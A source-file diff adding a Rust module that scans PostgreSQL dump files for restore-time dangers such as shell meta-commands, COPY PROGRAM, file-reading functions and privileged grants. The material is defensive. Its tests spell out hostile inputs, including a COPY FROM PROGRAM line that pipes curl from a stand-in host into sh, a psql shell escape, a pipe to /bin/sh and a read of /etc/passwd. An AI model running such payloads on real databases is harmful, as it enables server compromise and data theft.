@@ -1,0 +1,537 @@
+//! Restore-time dangers: psql meta-commands and SQL that act on the restoring client or server,
+//! and statements a genuine pg_dump never writes.
+
+use crate::rules::Severity::{self, *};
+use pg_query::protobuf::{node::Node as N, ObjectType};
+
+/// A restore-risk verdict: rule id, severity, message.
+pub type Risk = (&'static str, Severity, String);
+
+/// Judges one psql meta-command line (`text` starts with the backslash).
+pub fn meta(text: &str, after_copy: bool) -> Option<Risk> {
+    let t = text.trim_end();
+    let mut words = t.splitn(2, char::is_whitespace);
+    let cmd = words.next().unwrap_or("");
+    let args = words.next().unwrap_or("").trim();
+    let gap = if after_copy {
+        " right after a COPY block's \\. (smuggled into the data)"
+    } else {
+        ""
+    };
+    let crit =
+        |id: &'static str, what: &str| Some((id, Critical, format!("psql meta-command {what}{gap}: `{}`", shorten(t))));
+    match cmd {
+        "\\restrict" | "\\unrestrict" | "\\connect" => {
+            if args.contains('`')
+                || args.contains(":'")
+                || args.contains(":\"")
+                || (cmd != "\\connect" && args.split_whitespace().count() > 1)
+            {
+                return Some((
+                    "meta-restrict-tampered",
+                    Critical,
+                    format!(
+                        "{cmd} with extra text or variable/backquote expansion{gap}: `{}`",
+                        shorten(t)
+                    ),
+                ));
+            }
+            if after_copy {
+                return Some((
+                    "meta-command-in-copy-gap",
+                    High,
+                    format!("{cmd} placed right after a COPY block's \\., where pg_dump never writes it"),
+                ));
+            }
+            None
+        }
+        "\\!" => crit("meta-shell", "runs a shell command on the restoring machine"),
+        "\\o" | "\\out" | "\\g" | "\\w" | "\\write" | "\\gx" if args.starts_with('|') => {
+            crit("meta-pipe", "pipes output to a shell command")
+        }
+        "\\o" | "\\out" | "\\w" | "\\write" => crit("meta-file-write", "writes a file on the restoring machine"),
+        "\\copy" if args.to_ascii_lowercase().contains("program") => {
+            crit("meta-copy-program", "runs a program through \\copy")
+        }
+        "\\copy" => Some((
+            "meta-copy",
+            High,
+            format!("psql \\copy reads or writes a client-side file{gap}: `{}`", shorten(t)),
+        )),
+        "\\setenv" => crit("meta-setenv", "sets an environment variable of psql"),
+        "\\set" if args.contains('`') => crit("meta-backquote", "runs a shell command through backquote expansion"),
+        "\\gexec" => crit("meta-gexec", "executes query results as SQL"),
+        "\\i" | "\\include" | "\\ir" | "\\include_relative" => crit("meta-include", "includes another file"),
+        "\\lo_import" | "\\lo_export" => crit("meta-large-object-file", "reads or writes a client-side file"),
+        "\\cd" => crit("meta-cd", "changes psql's working directory"),
+        _ if t.contains('`') => crit("meta-backquote", "runs a shell command through backquote expansion"),
+        _ => Some((
+            "meta-unexpected",
+            Medium,
+            format!("psql meta-command that pg_dump never writes{gap}: `{}`", shorten(t)),
+        )),
+    }
+}
+
+fn shorten(s: &str) -> String {
+    if s.chars().count() > 80 {
+        format!("{}…", s.chars().take(80).collect::<String>())
+    } else {
+        s.to_string()
+    }
+}
+
+fn func_names(sql: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    if let Ok(r) = pg_query::parse(sql, 0) {
+        for (f, _) in r.functions {
+            out.push(f.rsplit('.').next().unwrap_or(&f).to_ascii_lowercase());
+        }
+    }
+    out
+}
+
+/// SQL functions pg_dump itself calls in a plain dump.
+const PG_DUMP_FUNCS: &[&str] = &[
+    "set_config",
+    "setval",
+    "lo_create",
+    "lo_open",
+    "lowrite",
+    "lo_close",
+    "lo_from_bytea",
+    "pg_sleep_for_nothing",
+];
+
+/// Server-side functions that read or write files or run programs.
+const FILE_FUNCS: &[(&str, Severity)] = &[
+    ("lo_import", Critical),
+    ("lo_export", Critical),
+    ("pg_read_file", Critical),
+    ("pg_read_binary_file", Critical),
+    ("pg_ls_dir", High),
+    ("pg_stat_file", High),
+    ("pg_file_write", Critical),
+    ("dblink_exec", High),
+    ("dblink", High),
+    ("pg_terminate_backend", High),
+    ("pg_reload_conf", High),
+];
+
+const UNTRUSTED_LANGS: &[&str] = &[
+    "plpythonu",
+    "plpython2u",
+    "plpython3u",
+    "plperlu",
+    "pltclu",
+    "plsh",
+    "plr",
+    "pljavau",
+    "plv8u",
+];
+const TRUSTED_EXTENSIONS: &[&str] = &[
+    "plpgsql",
+    "pgcrypto",
+    "hstore",
+    "citext",
+    "uuid-ossp",
+    "pg_trgm",
+    "btree_gin",
+    "btree_gist",
+    "cube",
+    "earthdistance",
+    "fuzzystrmatch",
+    "intarray",
+    "isn",
+    "lo",
+    "ltree",
+    "seg",
+    "tablefunc",
+    "tcn",
+    "tsm_system_rows",
+    "tsm_system_time",
+    "unaccent",
+    "bloom",
+    "pg_stat_statements",
+    "postgis",
+    "postgis_topology",
+    "postgis_raster",
+    "pgrowlocks",
+    "pgstattuple",
+    "pg_buffercache",
+    "pg_prewarm",
+    "pg_visibility",
+    "amcheck",
+    "dict_int",
+    "dict_xsyn",
+    "intagg",
+    "pg_freespacemap",
+    "sslinfo",
+    "xml2",
+    "plperl",
+    "pltcl",
+    "postgres_fdw",
+    "vector",
+    "timescaledb",
+    "pg_partman",
+    "pgrouting",
+    "address_standardizer",
+    "hypopg",
+    "pg_repack",
+    "pg_cron",
+];
+const DANGEROUS_PARAMS: &[&str] = &[
+    "session_preload_libraries",
+    "local_preload_libraries",
+    "shared_preload_libraries",
+    "dynamic_library_path",
+    "archive_command",
+    "restore_command",
+    "ssl_passphrase_command",
+    "log_directory",
+    "data_directory",
+];
+const SERVER_ROLES: &[&str] = &[
+    "pg_execute_server_program",
+    "pg_read_server_files",
+    "pg_write_server_files",
+    "pg_write_all_data",
+    "pg_read_all_data",
+    "pg_signal_backend",
+];
+
+fn def_names(opts: &[pg_query::protobuf::Node]) -> Vec<(String, String)> {
+    opts.iter()
+        .filter_map(|o| match o.node.as_ref()? {
+            N::DefElem(d) => Some((d.defname.clone(), crate::catalog::def_elem_text(d.arg.as_deref()))),
+            _ => None,
+        })
+        .collect()
+}
+
+/// What a genuine pg_dump run knows: context for judging a statement.
+#[derive(Default)]
+pub struct Context {
+    /// Triggers and rules seen so far, by the table they act on: (what, name, line, offset).
+    /// If that table's data comes later, they fire during the restore.
+    pub armed: std::collections::HashMap<String, Vec<(&'static str, String, u64, usize)>>,
+    /// A plain pg_dump_all globals section is being read (CREATE ROLE x; ALTER ROLE x WITH ...).
+    pub created_roles: std::collections::HashSet<String>,
+}
+
+/// Judges one parsed statement.
+pub fn statement(node: &N, sql: &str, ctx: &mut Context, line: u64, offset: usize) -> Vec<Risk> {
+    let mut out = Vec::new();
+    match node {
+        N::CopyStmt(c) if c.is_program => out.push((
+            "copy-program",
+            Critical,
+            format!(
+                "COPY {} PROGRAM runs `{}` on the database server",
+                if c.is_from { "FROM" } else { "TO" },
+                shorten(&c.filename)
+            ),
+        )),
+        N::CopyStmt(c) if !c.filename.is_empty() => out.push((
+            "copy-file",
+            High,
+            format!(
+                "COPY {} a server-side file `{}`",
+                if c.is_from { "FROM" } else { "TO" },
+                shorten(&c.filename)
+            ),
+        )),
+        N::AlterSystemStmt(_) => out.push((
+            "alter-system",
+            Critical,
+            format!(
+                "ALTER SYSTEM changes the server's configuration: `{}`",
+                shorten(sql.trim())
+            ),
+        )),
+        N::LoadStmt(l) => out.push((
+            "load-library",
+            Critical,
+            format!("LOAD loads the shared library `{}` into the server", l.filename),
+        )),
+        N::DoStmt(_) => out.push((
+            "do-block",
+            High,
+            "DO block: runs code during the restore (pg_dump never writes DO)".into(),
+        )),
+        N::CreateEventTrigStmt(e) => out.push((
+            "event-trigger",
+            High,
+            format!("event trigger {} fires on later DDL", e.trigname),
+        )),
+        N::CreateFunctionStmt(f) => {
+            let opts = def_names(&f.options);
+            let lang = opts
+                .iter()
+                .find(|(k, _)| k == "language")
+                .map(|(_, v)| v.to_ascii_lowercase())
+                .unwrap_or_default();
+            let name = f
+                .funcname
+                .iter()
+                .filter_map(crate::types::str_node)
+                .collect::<Vec<_>>()
+                .join(".");
+            if UNTRUSTED_LANGS.contains(&lang.as_str()) {
+                out.push(("untrusted-language", High, format!("function {name} is written in the untrusted language {lang}: it can run anything as the server's OS user")));
+            } else if lang == "c" {
+                out.push((
+                    "c-language-function",
+                    Medium,
+                    format!("function {name} loads native code from a shared library"),
+                ));
+            }
+            if opts.iter().any(|(k, v)| k == "security" && (v == "true" || v == "1")) {
+                let pinned = opts.iter().any(|(k, v)| k == "set" && v.contains("search_path"));
+                let msg = if pinned { "" } else { " and does not pin search_path" };
+                out.push((
+                    "security-definer",
+                    Low,
+                    format!("function {name} is SECURITY DEFINER (runs with its owner's rights){msg}"),
+                ));
+            }
+        }
+        N::CreateExtensionStmt(e) if !TRUSTED_EXTENSIONS.contains(&e.extname.as_str()) => {
+            let sev = if [
+                "plpython3u",
+                "plperlu",
+                "pltclu",
+                "adminpack",
+                "file_fdw",
+                "dblink",
+                "plsh",
+            ]
+            .contains(&e.extname.as_str())
+            {
+                High
+            } else {
+                Medium
+            };
+            out.push((
+                "extension",
+                sev,
+                format!("CREATE EXTENSION {}: not a known-safe contrib extension", e.extname),
+            ));
+        }
+        N::CreateRoleStmt(r) => {
+            for (k, v) in def_names(&r.options) {
+                if ["superuser", "replication", "bypassrls", "createrole"].contains(&k.as_str())
+                    && (v == "true" || v == "1")
+                {
+                    let sev = if k == "superuser" { High } else { Medium };
+                    out.push((
+                        "privileged-role",
+                        sev,
+                        format!("role {} is created with {}", r.role, k.to_uppercase()),
+                    ));
+                }
+            }
+        }
+        N::AlterRoleStmt(r) => {
+            let name = r.role.as_ref().map(|x| x.rolename.clone()).unwrap_or_default();
+            for (k, v) in def_names(&r.options) {
+                if ["superuser", "replication", "bypassrls", "createrole"].contains(&k.as_str())
+                    && (v == "true" || v == "1")
+                {
+                    // pg_dumpall writes every role as CREATE ROLE x; ALTER ROLE x WITH ...
+                    let genuine = ctx.created_roles.contains(&name);
+                    let sev = if !genuine {
+                        High
+                    } else if k == "superuser" && name != "postgres" {
+                        Medium
+                    } else {
+                        Info
+                    };
+                    out.push((
+                        "privileged-role",
+                        sev,
+                        format!(
+                            "role {name} is given {}{}",
+                            k.to_uppercase(),
+                            if genuine { " (as pg_dumpall writes it)" } else { "" }
+                        ),
+                    ));
+                }
+            }
+        }
+        N::AlterRoleSetStmt(s) => setting(s.setstmt.as_ref(), "ALTER ROLE ... SET", &mut out),
+        N::AlterDatabaseSetStmt(s) => setting(s.setstmt.as_ref(), "ALTER DATABASE ... SET", &mut out),
+        N::VariableSetStmt(v) if DANGEROUS_PARAMS.contains(&v.name.as_str()) => {
+            out.push((
+                "dangerous-setting",
+                Critical,
+                format!("SET {} loads code or runs commands", v.name),
+            ));
+        }
+        N::GrantRoleStmt(g) => {
+            for r in &g.granted_roles {
+                if let Some(N::AccessPriv(p)) = r.node.as_ref() {
+                    if SERVER_ROLES.contains(&p.priv_name.as_str()) || p.priv_name == "postgres" {
+                        let sev = if p.priv_name.contains("server") || p.priv_name == "postgres" {
+                            Critical
+                        } else {
+                            High
+                        };
+                        out.push((
+                            "grant-privileged-role",
+                            sev,
+                            format!("GRANT {} gives file or program access on the server", p.priv_name),
+                        ));
+                    }
+                }
+            }
+        }
+        N::SelectStmt(_) => {
+            for f in func_names(sql) {
+                if let Some((_, sev)) = FILE_FUNCS.iter().find(|(n, _)| *n == f) {
+                    out.push((
+                        "server-file-access",
+                        *sev,
+                        format!("SELECT calls {f}(): file or program access on the server"),
+                    ));
+                } else if !PG_DUMP_FUNCS.contains(&f.as_str()) && !f.starts_with("binary_upgrade_") {
+                    out.push((
+                        "unexpected-select",
+                        Medium,
+                        format!("SELECT calls {f}(), which pg_dump never does"),
+                    ));
+                }
+            }
+        }
+        N::UpdateStmt(_) | N::DeleteStmt(_) | N::TruncateStmt(_) | N::MergeStmt(_) => out.push((
+            "unexpected-dml",
+            Medium,
+            format!(
+                "data-changing statement pg_dump never writes: `{}`",
+                shorten(sql.trim())
+            ),
+        )),
+        N::CreateTrigStmt(t) => {
+            if let Some(rv) = &t.relation {
+                let q = crate::catalog::qualify(&rv.schemaname, &rv.relname);
+                ctx.armed
+                    .entry(q)
+                    .or_default()
+                    .push(("trigger", t.trigname.clone(), line, offset));
+            }
+        }
+        N::RuleStmt(r) if r.event != pg_query::protobuf::CmdType::CmdSelect as i32 => {
+            if let Some(rv) = &r.relation {
+                let q = crate::catalog::qualify(&rv.schemaname, &rv.relname);
+                ctx.armed
+                    .entry(q)
+                    .or_default()
+                    .push(("rule", r.rulename.clone(), line, offset));
+            }
+        }
+        N::DropStmt(d) => {
+            let what = if d.remove_type == ObjectType::ObjectTable as i32 {
+                "tables"
+            } else {
+                "objects"
+            };
+            out.push((
+                "drop",
+                Low,
+                format!("the restore drops existing {what}: `{}`", shorten(sql.trim())),
+            ));
+        }
+        N::DropdbStmt(d) => out.push((
+            "drop-database",
+            Medium,
+            format!("the restore drops the database {}", d.dbname),
+        )),
+        _ => {}
+    }
+    out
+}
+
+fn setting(s: Option<&pg_query::protobuf::VariableSetStmt>, what: &str, out: &mut Vec<Risk>) {
+    let Some(s) = s else { return };
+    if DANGEROUS_PARAMS.contains(&s.name.as_str()) {
+        out.push((
+            "dangerous-setting",
+            Critical,
+            format!("{what} {} loads code or runs commands in later sessions", s.name),
+        ));
+    } else if s.name == "search_path" {
+        out.push((
+            "search-path-setting",
+            Low,
+            format!("{what} search_path changes name resolution for later sessions"),
+        ));
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn meta_commands() {
+        assert_eq!(meta("\\! id > /tmp/owned", true).unwrap().1, Critical);
+        assert_eq!(meta("\\o | /bin/sh", false).unwrap().0, "meta-pipe");
+        assert!(meta("\\restrict abc", false).is_none());
+        assert!(meta("\\connect pagila", false).is_none());
+        assert_eq!(
+            meta("\\unrestrict abc `id`", false).unwrap().0,
+            "meta-restrict-tampered"
+        );
+        assert_eq!(meta("\\set x `id`", false).unwrap().0, "meta-backquote");
+        assert_eq!(meta("\\echo hi", false).unwrap().1, Medium);
+    }
+
+    fn judge(sql: &str) -> Vec<Risk> {
+        let r = pg_query::parse(sql, 0).unwrap();
+        let n = r.protobuf.stmts[0]
+            .stmt
+            .as_ref()
+            .unwrap()
+            .node
+            .as_ref()
+            .unwrap()
+            .clone();
+        statement(&n, sql, &mut Context::default(), 1, 0)
+    }
+
+    #[test]
+    fn statements() {
+        assert_eq!(
+            judge("COPY public.language FROM PROGRAM 'curl -s http://x/p | sh';")[0].0,
+            "copy-program"
+        );
+        assert_eq!(judge("ALTER SYSTEM SET shared_preload_libraries = 'x';")[0].1, Critical);
+        assert_eq!(
+            judge("SELECT pg_catalog.lo_import('/etc/passwd');")[0].0,
+            "server-file-access"
+        );
+        assert!(judge("SELECT pg_catalog.setval('public.s', 1, true);").is_empty());
+        assert!(judge("SELECT pg_catalog.set_config('search_path', '', false);").is_empty());
+        assert_eq!(judge("CREATE ROLE maint WITH SUPERUSER LOGIN;")[0].1, High);
+        assert_eq!(judge("GRANT pg_execute_server_program TO PUBLIC;")[0].1, Critical);
+        assert_eq!(judge("DO $$ BEGIN NULL; END $$;")[0].0, "do-block");
+        assert_eq!(
+            judge("CREATE FUNCTION f() RETURNS void LANGUAGE plpython3u AS $$ import os $$;")[0].0,
+            "untrusted-language"
+        );
+        assert_eq!(
+            judge("CREATE FUNCTION f() RETURNS int LANGUAGE c AS '/usr/lib/x.so', 'f';")[0].1,
+            Medium
+        );
+        assert_eq!(
+            judge("CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN RETURN 1; END $$;")[0]
+                .1,
+            Low
+        );
+        assert_eq!(
+            judge("ALTER ROLE app SET session_preload_libraries = 'evil';")[0].1,
+            Critical
+        );
+        assert_eq!(judge("UPDATE t SET a = 1;")[0].0, "unexpected-dml");
+    }
+}
